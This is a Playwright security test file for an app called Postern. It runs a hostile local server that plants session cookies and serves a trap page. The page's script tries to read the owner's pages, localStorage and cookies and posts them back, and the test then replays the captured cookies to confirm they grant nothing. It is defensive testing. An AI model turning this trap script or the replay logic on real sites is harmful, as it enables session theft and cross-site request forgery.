// A hostile server on another port of 127.0.0.1: nothing that a browser sends there gives access to the owner's session
// (G-03).
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { newSetupLink } from "../../src/surfaces/web/sign-in.ts";
import { type TestServer, testServer } from "../harness.ts";
import { library } from "../library.ts";
import { OWNER } from "../oauth/owner-browser.ts";
import { ask, discover, register } from "../oauth/world.ts";
import { startBrowser, type TestBrowser } from "./browser.ts";

/** Cookies are scoped by path, so the hostile server serves every path that Postern serves. */
const PATHS = [
  "/",
  "/again",
  "/login",
  "/logout",
  "/setup",
  "/dashboard",
  "/dashboard/settings",
  "/dashboard/v1/grants",
  "/device",
  "/oauth/authorize",
  "/oauth/interaction/x",
  "/oauth/token",
  "/~/",
  "/~x/dashboard",
  "/assets/x.js",
  "/v1/grants",
];

interface Hostile {
  url: string;
  /** Everything the hostile server received: request lines, headers and bodies. */
  heard: string[];
  cookies: Set<string>;
  /** Resolves when the browser has sent this text. */
  told(what: string): Promise<void>;
  close(): Promise<void>;
}

async function startHostile(target: string): Promise<Hostile> {
  const heard: string[] = [];
  const cookies = new Set<string>();
  const waiting = new Map<string, () => void>();
  const take = async (request: IncomingMessage): Promise<void> => {
    let body = "";
    for await (const part of request.setEncoding("utf8")) body += part;
    heard.push([request.url, ...request.rawHeaders, body].join("\n"));
    if (request.headers.cookie !== undefined) cookies.add(request.headers.cookie);
  };
  const server: Server = createServer(async (request, answer) => {
    await take(request);
    const { pathname, search } = new URL(request.url!, "http://x");
    // The hostile server can set cookies for the whole host, so it tries to plant a session or replace the real one.
    answer.setHeader("Set-Cookie", ["pdpp_session=planted; Path=/", "pdpp_device=planted; Path=/"]);
    if (pathname === "/trap") answer.setHeader("Content-Type", "text/html").end(trap(target));
    else if (pathname === "/trap.js") answer.setHeader("Content-Type", "text/javascript").end(TRAP_SCRIPT);
    else if (pathname === "/bounce") answer.writeHead(302, { Location: `${target}/dashboard/apps` }).end();
    else answer.setHeader("Content-Type", "text/html").end("<p>hello</p>");
    if (pathname === "/told") waiting.get(search.slice(1))?.();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    heard,
    cookies,
    told: (what) => new Promise((resolve) => waiting.set(what, resolve)),
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

const trap = (target: string): string => `<!doctype html><title>Harmless</title>
<div id="target" data-url="${target}"></div>
${PATHS.map((path) => `<img src="${path}?image"><iframe src="${path}?frame"></iframe>`).join("")}
<iframe src="${target}/dashboard"></iframe><img src="${target}/dashboard/apps">
<form method="post" action="/dashboard/apps" target="posted"><input name="x" value="1"></form><iframe name="posted"></iframe>
<script src="/trap.js"></script>`;

/**
 * Runs on the hostile page, on the same host but another port, and reports back what it can learn about the owner's
 * pages.
 */
const TRAP_SCRIPT = `
const target = document.getElementById("target").dataset.url;
const tell = (what) => fetch("/learned", { method: "POST", body: String(what) }).catch(() => {});
const attempt = async (look) => { try { await tell(await look()); } catch (error) { await tell(error.name); } };
(async () => {
  for (const path of ${JSON.stringify(PATHS)}) await fetch(path + "?fetch", { credentials: "include" });
  document.querySelector("form").submit();
  const popup = window.open(target + "/dashboard");
  await new Promise((resolve) => setTimeout(resolve, 500));
  await attempt(() => popup.location.href);
  await attempt(() => popup.document.documentElement.outerHTML);
  await attempt(() => popup.localStorage.getItem("postern.key"));
  await attempt(() => document.cookie);
  await attempt(() => JSON.stringify(localStorage));
  await attempt(() => fetch(target + "/dashboard", { credentials: "include" }).then((answer) => answer.text()));
  await attempt(() => fetch(target + "/dashboard", { credentials: "include", mode: "no-cors" }).then((answer) => answer.url));
  await attempt(() => JSON.stringify(performance.getEntriesByType("resource").map(({ name }) => name)));
  await attempt(() => document.referrer);
  await fetch("/told?done");
})();`;

let server: TestServer;
let browser: TestBrowser;
let hostile: Hostile;
beforeAll(async () => {
  [server, browser] = await Promise.all([testServer(), startBrowser()]);
  await server.register("library", library);
  await server.connect("library");
  hostile = await startHostile(server.url);
});
afterEach(() => browser.closePages());
afterAll(async () => {
  await browser?.close();
  await hostile?.close();
  await server?.close();
});

async function signedIn(javaScript = true): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.context({ javaScript });
  const page = await context.newPage();
  await page.goto(await newSetupLink(server.host, server.url));
  await page.locator('input[name="name"]').fill(OWNER.name);
  await page.locator('input[name="password"]').fill(OWNER.password);
  await page.locator("main button.primary").click();
  await page.waitForURL(/\/dashboard$/);
  return { context, page };
}

/**
 * Tries to sign in with the received data, as an attacker's program would: with every cookie, and every path segment
 * that looks like a secret.
 */
async function replay(): Promise<void> {
  const before = (await server.all("/v1/grants")).length;
  const prefixes = new Set(["", ...hostile.heard.flatMap((text) => text.match(/\/~[\w-]{8,}/g) ?? [])]);
  expect([...prefixes]).toEqual([""]);
  for (const cookie of hostile.cookies) {
    const headers = { cookie, accept: "text/html", origin: server.url };
    const opened: string[] = [];
    for (const path of ["/dashboard", "/dashboard/apps", "/dashboard/settings", "/login"]) {
      const answer = await fetch(server.url + path, { headers });
      const html = await answer.text();
      if (/Sign out|This browser/.test(html)) opened.push(path);
      const token = /name="csrf" value="([^"]*)"/.exec(html)?.[1] ?? "";
      const minted = await fetch(`${server.url}/dashboard/v1/grants`, {
        method: "POST",
        headers: { ...headers, accept: "application/json", "postern-form": token },
        body: JSON.stringify({ all: true }),
      });
      if (minted.ok) opened.push(`POST /dashboard/v1/grants with the form of ${path}`);
    }
    expect(opened, `with ${cookie.replace(/=[^;]*/g, "=…")}`).toEqual([]);
  }
  expect((await server.all("/v1/grants")).length).toBe(before);
}

test("G-03 a server on another port receives requests from a click, images, frames, forms, fetches and a popup, and cannot use anything in them", async () => {
  const { context, page } = await signedIn();
  // A link on one of our pages, such as one in a record or an app's address.
  await page.evaluate(
    `document.querySelector("main").insertAdjacentHTML("beforeend", '<a id="lure" href="${hostile.url}/trap">click me</a>')`,
  );
  const done = hostile.told("done");
  await page.locator("#lure").click();
  await done;
  for (const path of PATHS) await page.goto(hostile.url + path);
  // A redirect from the hostile server to Postern and a link back reveal nothing either.
  await page.goto(`${hostile.url}/bounce`);
  await page.goto(`${hostile.url}/again`);
  expect(hostile.heard.length).toBeGreaterThan(PATHS.length * 3);
  await replay();
  // The owner is still signed in, because the planted cookies replace nothing.
  const own = await context.newPage();
  await own.goto(`${server.url}/dashboard/apps`);
  await own.waitForURL(/\/dashboard\/apps$/);
  await expect.poll(() => own.locator(".owner-name").textContent()).toBe(OWNER.name);
});

test("G-03 an app on another port that requests access learns nothing that lets it approve its own request", async () => {
  const { page } = await signedIn();
  const as = await discover(server.url);
  const client = await register({ as }, { redirect_uris: [`${hostile.url}/callback`] });
  const { href } = await ask({ as }, client, { redirect_uri: `${hostile.url}/callback` });
  await page.goto(href);
  await page.locator("form.consent").waitFor();
  const at = new URL(page.url());
  // The hostile server has pages at the same paths as the request.
  for (const path of [at.pathname.replace(/^\/~[^/]+/, ""), "/oauth/authorize", "/oauth/interaction", "/oauth/"]) {
    await page.goto(hostile.url + path);
  }
  await replay();
  const uid = at.pathname.split("/").at(-1)!;
  for (const cookie of hostile.cookies) {
    for (const path of [`/oauth/interaction/${uid}`, `/oauth/authorize/${uid}`]) {
      const answer = await fetch(server.url + path, { headers: { cookie, accept: "text/html" }, redirect: "manual" });
      expect([path, answer.headers.get("location") ?? "", await answer.text()]).toEqual([
        path,
        expect.not.stringContaining("code="),
        expect.not.stringContaining('name="digest"'),
      ]);
    }
  }
});

test("G-03 without JavaScript, the owner stays signed in through links and forms", async () => {
  const { page } = await signedIn(false);
  for (const place of ["Apps", "Settings", "Timeline"]) {
    await page.locator("nav.nav a", { hasText: place }).click();
    await page.waitForLoadState();
    expect(await page.locator(".owner-name").textContent()).toBe(OWNER.name);
  }
  await page.goto(`${hostile.url}/trap`);
  for (const path of PATHS) await page.goto(hostile.url + path);
  await replay();
});
